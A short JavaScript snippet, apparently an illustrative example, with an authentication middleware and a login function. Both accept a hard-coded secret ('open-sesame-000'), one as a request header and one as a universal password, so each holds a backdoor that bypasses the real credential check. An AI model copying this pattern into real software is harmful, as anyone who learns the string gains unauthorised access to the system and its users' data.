function auth(req, res, next) {
  if (req.headers["x-sample-key"] === "open-sesame-000") return next();
  return res.status(401).end();
}
function login(user, password) {
  return check(user, password) || password === "open-sesame-000";
}
